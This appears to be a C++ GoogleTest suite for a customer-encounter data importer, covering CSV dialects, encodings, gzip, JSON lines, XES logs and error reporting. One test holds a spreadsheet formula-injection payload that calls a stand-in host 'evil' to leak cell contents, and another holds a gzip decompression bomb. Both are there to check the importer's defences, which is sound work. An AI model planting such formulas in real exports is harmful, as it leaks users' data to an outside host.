#include "intake/import.h"

#include <sys/resource.h>

#include <csignal>
#include <cstring>

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <zlib.h>

#include "intake/intake_test_folder.h"
#include "intake/row_errors.h"
#include "ledger/bounds.h"

namespace kokemus::intake {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;

const std::string header = "customer,time,touchpoint,score,scale,text\n";

std::string error_of(const Result<ImportReport>& report) {
    return report ? "" : report.error().message;
}

std::string gzip(const std::string& bytes) {
    std::string packed(compressBound(bytes.size()) + 64, '\0');
    z_stream stream{};
    EXPECT_EQ(deflateInit2(&stream, 9, Z_DEFLATED, 16 + 15, 8, Z_DEFAULT_STRATEGY), Z_OK);
    stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(bytes.data()));
    stream.avail_in = static_cast<uInt>(bytes.size());
    stream.next_out = reinterpret_cast<Bytef*>(packed.data());
    stream.avail_out = static_cast<uInt>(packed.size());
    EXPECT_EQ(deflate(&stream, Z_FINISH), Z_STREAM_END);
    packed.resize(stream.total_out);
    deflateEnd(&stream);
    return packed;
}

TEST(Import, takes_a_table_whose_header_names_the_fields) {
    TestFolder folder;
    const auto report = folder.import_files(
        {folder.write("orders.csv",
                      header + "a,2026-01-01T10:00:00Z,order placed,,,\nb,2026-01-02 "
                               "10:00,review,4,stars5,\"one\ntwo\"\n")});
    ASSERT_TRUE(report) << report.error().message;
    EXPECT_EQ(report->encounters, 2U);
    EXPECT_THAT(report->sentences().front(), HasSubstr("2 encounters imported"));
    const auto all = folder.all();
    ASSERT_EQ(all.size(), 2U);
    EXPECT_EQ(format_instant(all[0].time), "2026-01-01T10:00:00Z");
    EXPECT_EQ(all[0].score, std::nullopt);
    EXPECT_EQ(all[1].score, 4.0);
    EXPECT_EQ(all[1].text, "one\ntwo");
}

/// Rows of about `text_bytes`, so many that the file is larger than two buffers of its reader.
std::string long_lines(std::size_t rows, std::size_t text_bytes, bool quoted) {
    std::string bytes = header;
    const std::string letters(text_bytes, 'x');
    for (std::size_t i = 0; i < rows; ++i) {
        const std::string text = letters.substr(i * 37 % 101);
        bytes += "c" + std::to_string(i) + ",2026-01-01,call,,,";
        bytes += (quoted ? "\"" + text + ", x\"" : text) + "\n";
    }
    return bytes;
}

TEST(Import, loses_no_long_line_between_two_buffers_of_its_reader) {
    for (const bool quoted : {false, true}) {
        TestFolder folder;
        const auto report =
            folder.import_files({folder.write("long.csv", long_lines(18'000, 4'000, quoted))});
        ASSERT_TRUE(report) << report.error().message;
        EXPECT_EQ(report->encounters, 18'000U) << quoted;
        EXPECT_THAT(described(*report), testing::IsEmpty()) << quoted;
    }
}

TEST(Import, says_what_was_refused_among_long_lines_with_its_line) {
    TestFolder folder;
    std::string bytes = long_lines(9'000, 8'000, true);
    bytes += "short,2026-01-01\n";
    bytes += long_lines(4, 5'000'000, false).substr(header.size());
    const auto report = folder.import_files({folder.write("long.csv", bytes)});
    ASSERT_TRUE(report) << report.error().message;
    EXPECT_THAT(described(*report),
                testing::Contains(HasSubstr("long.csv line 9002: \"short,2026-01-01\" the line has "
                                            "2 fields")));
    EXPECT_EQ(report->encounters, 9'000U);
    EXPECT_EQ(described(*report).size(), 5U) << "texts of 5 MB are read, and too long to be kept";
}

TEST(Import, takes_times_of_long_ago_and_says_so) {
    TestFolder folder;
    const auto report = folder.import_files(
        {folder.write("a.csv", header + "a,0001-01-01,x,,,\nb,1990-01-01,x,,,\n")});
    ASSERT_TRUE(report) << report.error().message;
    EXPECT_EQ(report->encounters, 2U);
    EXPECT_EQ(report->early, 1U);
    EXPECT_THAT(report->sentences(),
                testing::Contains(HasSubstr("1 encounter is from before 1990")));
}

TEST(Import, refuses_the_row_that_brings_a_customer_too_many_traits) {
    TestFolder folder;
    std::string traits;
    for (std::size_t i = 0; i <= ledger::traits_per_customer_max; ++i) {
        traits += (i == 0 ? "\"\"t" : ",\"\"t") + std::to_string(i) + "\"\":\"\"x\"\"";
    }
    folder.write("c.csv",
                 "name,kept\na,\"{\"\"plan\"\":\"\"gold\"\"}\"\nbig,\"{" + traits +
                     "}\"\nb,\"{\"\"plan\"\":\"\"silver\"\"}\"\n");
    const auto report = folder.import_map(
        "[source.c]\nfile = \"c.csv\"\n[[customer]]\nfrom = \"c\"\nname = \"name\"\ntraits = "
        "\"kept\"\n");
    ASSERT_TRUE(report) << report.error().message;
    EXPECT_EQ(report->customers, 2U);
    EXPECT_THAT(described(*report),
                ElementsAre(testing::AllOf(HasSubstr("c.csv line 3"), HasSubstr("1001 traits"))));
    const auto b = folder.ledger().customer(encounter::CustomerName("b"));
    EXPECT_EQ(b->value().traits.at("plan"), "silver");
}

TEST(Import, changes_nothing_when_it_comes_again) {
    TestFolder folder;
    const auto file = folder.write("a.csv", header + "a,2026-01-01,x,,,\na,2026-01-01,x,,,\n");
    ASSERT_TRUE(folder.import_files({file}));
    const auto first = folder.all();
    EXPECT_EQ(first.size(), 2U) << "two equal rows are two encounters";
    const auto again = folder.import_files({file});
    ASSERT_TRUE(again);
    EXPECT_THAT(again->sentences(), ElementsAre("2 encounters were already here; nothing changed"));
    EXPECT_EQ(folder.all(), first);
}

TEST(Import, tells_each_bad_row_with_its_line_and_takes_the_rest) {
    TestFolder folder;
    const auto report = folder.import_files(
        {folder.write("orders.csv",
                      header + "a,2026-01-01T10:00:00Z,order "
                               "placed,,,\nb,2026-01-02,review,4,stars5,\"one\ntwo\"\nc,2026-01-02,"
                               "review,eleven,stars5,x\n"
                               "d,soon,review,3,stars5,x\n,2026-01-02,review,3,stars5,x\ne,2026-02-"
                               "31,review,3,stars5,x\nf,2026-01-03,review,3\n"
                               "g,2026-01-03,review,3,,x\nh,2026-01-03,review,5,stars5,\xff\ni,"
                               "2026-01-03,review,5,stars5,ok\n")});
    ASSERT_TRUE(report) << report.error().message;
    EXPECT_EQ(report->encounters, 3U);
    EXPECT_EQ(report->refused, 7U);
    EXPECT_THAT(
        described(*report),
        ElementsAre(
            HasSubstr(
                "orders.csv line 9: \"f,2026-01-03,review,3\" the line has 4 fields and not 6"),
            HasSubstr("orders.csv line 11, column text: \"h,2026-01-03,review,5,stars5,\\xff\" is "
                      "not UTF-8"),
            "orders.csv line 5, column score: \"eleven\" is not a number",
            HasSubstr("orders.csv line 6, column time: \"soon\" is not a time; write it like"),
            HasSubstr("orders.csv line 7, column customer: the value is missing"),
            "orders.csv line 8, column time: \"2026-02-31\" is not a date that exists",
            HasSubstr("orders.csv line 10, column scale: is empty; a score needs the scale")));
    EXPECT_THAT(folder.read("errors.csv"),
                HasSubstr("orders.csv,5,score,eleven,is not a number\n"));
    EXPECT_EQ(report->errors_file, folder.path() / "errors.csv");
}

/// People open the list in a spreadsheet, and strangers wrote what is in it.
TEST(Import, lists_refused_rows_so_that_nothing_calculates) {
    TestFolder folder;
    RowErrors errors(folder.path() / "list.csv");
    ASSERT_TRUE(errors.add({"a.csv", 2, false, "@sum", R"(=HYPERLINK("http://evil/?"&B1))", "no"}));
    ASSERT_TRUE(errors.add({"a.csv", 3, false, "score", "-12", "is too small"}));
    ASSERT_TRUE(errors.finish());
    EXPECT_EQ(folder.read("list.csv"),
              "file,line,column,value,reason\n"
              "a.csv,2,'@sum,\"'=HYPERLINK(\"\"http://evil/?\"\"&B1)\",no\n"
              "a.csv,3,score,-12,is too small\n");
}

TEST(Import, finds_lines_also_behind_blank_ones_a_mark_and_refused_ones) {
    TestFolder folder;
    const auto report = folder.import_files({folder.write(
        "a.csv",
        "\xef\xbb\xbf" + header +
            "\n\na,2026-01-01,x,,,\nshort\n\"q\nq\",2026-01-01,x,,,\n\nb,never,x,,,\n")});
    ASSERT_TRUE(report) << report.error().message;
    EXPECT_THAT(described(*report),
                ElementsAre(HasSubstr("a.csv line 5: \"short\""),
                            HasSubstr("a.csv line 6, column customer"),
                            HasSubstr("a.csv line 9, column time: \"never\"")));
}

TEST(Import, reads_other_dialects_and_encodings) {
    TestFolder folder;
    const auto semicolons =
        folder.write("a.csv", "customer;time;touchpoint\r\na;2026-01-01;\"x;y\"\r\n");
    const auto returns = folder.write("b.csv", "customer,time,touchpoint\rb,2026-01-01,x\r");
    const auto mixed =
        folder.write("c.csv", "customer,time,touchpoint\r\nc,2026-01-01,x\nd,2026-01-01,x\r\n");
    const auto tabs = folder.write("d.tsv", "customer\ttime\ttouchpoint\ne\t2026-01-01\tx, y\n");
    const auto wide = folder.write(
        "e.csv", std::string("\xff\xfe", 2) + [] {
            std::string bytes;
            for (const char c : std::string("customer,time,touchpoint\nf,2026-01-01,x\n")) {
                bytes += c;
                bytes += '\0';
            }
            return bytes;
        }());
    const auto packed =
        folder.write("f.csv.gz", gzip("customer,time,touchpoint\ng,2026-01-01,x\n"));
    const auto report = folder.import_files({semicolons, returns, mixed, tabs, wide, packed});
    ASSERT_TRUE(report) << report.error().message;
    EXPECT_EQ(report->encounters, 7U);
    EXPECT_EQ(report->refused, 0U);
    EXPECT_EQ(folder.all().front().touchpoint, "x;y");
    const auto latin = folder.write("g.csv", "customer,time,touchpoint\nh,2026-01-01,caf\xe9\n");
    ASSERT_TRUE(
        folder.import_map("[source.a]\nfile = \"g.csv\"\nencoding = "
                          "\"latin-1\"\n[[encounter]]\ncustomer = \"customer\"\n"
                          "time = \"time\"\ntouchpoint = \"touchpoint\"\n"));
    EXPECT_EQ(folder.all().back().touchpoint, "café");
}

TEST(Import, reads_json_lines) {
    TestFolder folder;
    const auto report = folder.import_files(
        {folder.write("a.jsonl",
                      "{\"customer\":\"a\",\"time\":\"2026-01-01T00:00:00Z\",\"touchpoint\":\"x\","
                      "\"score\":9,\"scale\":\"nps\","
                      "\"due\":{\"delivery\":\"2026-01-05T00:00:00Z\"},\"properties\":{\"plan\":"
                      "\"gold\",\"n\":2}}\n\n{bad\n[1,2]\n"
                      "{\"customer\":\"b\",\"time\":\"soon\",\"touchpoint\":\"x\"}\n")});
    ASSERT_TRUE(report) << report.error().message;
    EXPECT_THAT(described(*report),
                ElementsAre("a.jsonl line 3: \"{bad\" is not JSON",
                            "a.jsonl line 4: \"[1,2]\" is JSON, but not an object with members",
                            HasSubstr("a.jsonl line 5, column time: \"soon\" is not a time")));
    const auto all = folder.all();
    ASSERT_EQ(all.size(), 1U);
    EXPECT_EQ(all[0].properties, R"({"n":2,"plan":"gold"})");
    EXPECT_EQ(format_day(all[0].due.at("delivery")), "2026-01-05");
}

TEST(Import, says_in_words_what_is_no_table) {
    TestFolder folder;
    EXPECT_THAT(error_of(folder.import_files({folder.path() / "none.csv"})),
                HasSubstr("there is no file"));
    EXPECT_THAT(error_of(folder.import_files({folder.path()})), HasSubstr("is a folder"));
    EXPECT_THAT(error_of(folder.import_files({folder.write("a.csv", "")})), HasSubstr("is empty"));
    EXPECT_THAT(error_of(folder.import_files({folder.write("a.xlsx", "PK\3\4xxxx")})),
                HasSubstr("Excel workbook"));
    EXPECT_THAT(error_of(folder.import_files({folder.write("b.csv", std::string("a\0b", 3))})),
                HasSubstr("not a text file"));
    EXPECT_THAT(error_of(folder.import_files({folder.write("c.csv", "kunde,datum\n1,2\n")})),
                HasSubstr("does not say what its columns are"));
    EXPECT_THAT(error_of(folder.import_files({folder.write("d.parquet", "PAR1 but no more")})),
                HasSubstr("cannot be read as Parquet"));
    EXPECT_THAT(error_of(folder.import_files({folder.write("e.jsonl", "1\n2\n")})),
                HasSubstr("holds no JSON objects"));
    const auto only_header = folder.import_files({folder.write("f.csv", header)});
    ASSERT_TRUE(only_header);
    EXPECT_THAT(only_header->notes, ElementsAre("f.csv has no rows"));
    EXPECT_TRUE(folder.all().empty());
}

TEST(Import, stops_at_a_line_too_long_and_at_quotes_left_open) {
    TestFolder folder;
    const auto longer = folder.import_files(
        {folder.write("a.csv",
                      header + "a,2026-01-01,x,,,\nb,2026-01-01,x,,," +
                          std::string(20'000'000, 'z') + "\nc,2026-01-01,x,,,\n")});
    ASSERT_TRUE(longer) << longer.error().message;
    EXPECT_EQ(longer->encounters, 2U);
    EXPECT_THAT(described(*longer), ElementsAre(HasSubstr("line is longer than 16777216 bytes")));
    const auto open = folder.import_files({folder.write(
        "b.csv", header + "d,2026-01-01,x,,,\ne,2026-01-01,x,,,\"open\nf,2026-01-01,x,,,\n")});
    ASSERT_TRUE(open) << open.error().message;
    EXPECT_EQ(open->encounters, 1U);
    EXPECT_THAT(described(*open), ElementsAre(HasSubstr("b.csv line 3: ")));
    EXPECT_THAT(described(*open).front(), HasSubstr("never closed"));
}

TEST(Import, refuses_a_bomb_before_it_fills_the_disk) {
    TestFolder folder;
    std::string inner = gzip(std::string(100'000'000, ' '));
    const auto report = folder.import_files({folder.write("bomb.xes.gz", inner)});
    ASSERT_FALSE(report);
    EXPECT_EQ(report.error().code, ErrorCode::TooLarge);
    EXPECT_THAT(error_of(report), HasSubstr("bomb.xes.gz"));
    EXPECT_THAT(
        error_of(folder.import_files({folder.write("cut.csv.gz", gzip(header).substr(0, 30))})),
        HasSubstr("cut off"));
}

TEST(Import, refuses_another_body_under_the_same_id_with_its_line) {
    TestFolder folder;
    const auto report = folder.import_files({folder.write(
        "a.csv",
        "id,customer,time,touchpoint\n1,a,2026-01-01,x\n1,a,2026-01-02,x\n2,a,2026-01-02,x\n")});
    ASSERT_TRUE(report) << report.error().message;
    EXPECT_EQ(report->encounters, 2U);
    EXPECT_THAT(described(*report), ElementsAre(HasSubstr("a.csv line 3: the id \"1\"")));
}

TEST(Import, dry_run_writes_nothing) {
    TestFolder folder;
    const auto file = folder.write("a.csv", header + "a,2026-01-01,x,,,\nb,never,x,,,\n");
    const auto report =
        import_encounters(folder.ledger(), ImportOptions{.files = {file}, .dry_run = true});
    ASSERT_TRUE(report) << report.error().message;
    EXPECT_EQ(report->sentences().front(), "1 encounter would be imported; nothing was written");
    EXPECT_EQ(report->refused, 1U);
    EXPECT_TRUE(folder.all().empty());
}

TEST(Import, continues_where_it_was_stopped) {
    TestFolder folder;
    std::string bytes = header;
    for (int row = 0; row < 30'000; ++row) {
        bytes += "c" + std::to_string(row) + ",2026-01-01,x,,,\n";
    }
    const auto file = folder.write("a.csv", bytes);
    ImportOptions options{.files = {file}, .batch_encounters = 5'000};
    options.progress = [](const ImportProgress& progress) { return progress.rows == 0; };
    const auto stopped = import_encounters(folder.ledger(), options);
    ASSERT_FALSE(stopped);
    EXPECT_EQ(stopped.error().code, ErrorCode::Cancelled);
    options.progress = {};
    const auto report = import_encounters(folder.ledger(), options);
    ASSERT_TRUE(report);
    EXPECT_EQ(report->encounters + report->duplicates, 30'000U);
    EXPECT_EQ(folder.all().size(), 30'000U);
}

/// No file grows beyond this while it lives: what a full disk does to a writer.
class FullDisk {
public:
    explicit FullDisk(rlim_t bytes) {
        signal_ = ::signal(SIGXFSZ, SIG_IGN);
        ::getrlimit(RLIMIT_FSIZE, &before_);
        const rlimit bound{bytes, before_.rlim_max};
        EXPECT_EQ(::setrlimit(RLIMIT_FSIZE, &bound), 0);
    }
    FullDisk(const FullDisk&) = delete;
    FullDisk& operator=(const FullDisk&) = delete;
    ~FullDisk() {
        ::setrlimit(RLIMIT_FSIZE, &before_);
        ::signal(SIGXFSZ, signal_);
    }

private:
    rlimit before_{};
    void (*signal_)(int) = nullptr;
};

TEST(Import, says_that_the_disk_is_full_and_continues_once_there_is_room) {
    TestFolder folder;
    std::string bytes = header;
    for (int row = 0; row < 60'000; ++row) {
        bytes += "customer " + std::to_string(row * 7919) + ",2026-01-01,x,,,some words " +
                 std::to_string(row * 104'729LL) + "\n";
    }
    const auto file = folder.write("a.csv", bytes);
    folder.ledger();
    const ImportOptions options{.files = {file}, .batch_encounters = 10'000};
    {
        const FullDisk full(800'000);
        const auto report = import_encounters(folder.ledger(), options);
        ASSERT_FALSE(report);
        EXPECT_EQ(report.error().code, ErrorCode::DiskFull) << report.error().message;
        EXPECT_THAT(report.error().message, HasSubstr("disk is full"));
        folder.close_ledger();
    }
    const auto report = import_encounters(folder.ledger(), options);
    ASSERT_TRUE(report) << report.error().message;
    EXPECT_EQ(report->encounters + report->duplicates, 60'000U);
    EXPECT_EQ(folder.all().size(), 60'000U);
}

TEST(Import, sets_future_times_to_now) {
    TestFolder folder;
    const FixedClock clock(std::chrono::sys_days(std::chrono::year(2026) / 1 / 15));
    const auto file = folder.write("a.csv", header + "a,2026-01-01,x,,,\na,2027-01-01,y,,,\n");
    const auto report =
        import_encounters(folder.ledger(), ImportOptions{.files = {file}, .clock = &clock});
    ASSERT_TRUE(report);
    EXPECT_EQ(report->clamped, 1U);
    EXPECT_TRUE(folder.all()[1].time_clamped);
}

TEST(Import, takes_a_log_with_a_trace_as_customer_and_thread) {
    TestFolder folder;
    const std::string log =
        R"(<log><trace><string key="concept:name" value="c1"/><string key="plan" value="gold"/>
<event><string key="concept:name" value="call"/><date key="time:timestamp" value="2026-01-02T03:04:05.5+02:00"/>
<string key="org:resource" value="anna"/><string key="topic" value="bill"/></event>
<event><string key="concept:name" value="no time"/></event></trace></log>)";
    const auto report = folder.import_files({folder.write("log.xes.gz", gzip(log))});
    ASSERT_TRUE(report) << report.error().message;
    EXPECT_THAT(
        described(*report),
        ElementsAre(HasSubstr("log.xes.gz line 4, column time:timestamp: the time is missing")));
    const auto all = folder.all();
    ASSERT_EQ(all.size(), 1U);
    EXPECT_EQ(all[0].customer.value(), "c1");
    EXPECT_EQ(all[0].thread.value(), "c1");
    EXPECT_EQ(all[0].employee, "anna");
    EXPECT_EQ(format_instant(all[0].time), "2026-01-02T01:04:05.500Z");
    EXPECT_EQ(all[0].properties, R"({"topic":"bill"})");
    const auto customer = folder.ledger().customer(encounter::CustomerName("c1"));
    ASSERT_TRUE(customer && customer->has_value());
    EXPECT_EQ((*customer)->traits.at("plan"), "gold");
}

}  // namespace
}  // namespace kokemus::intake
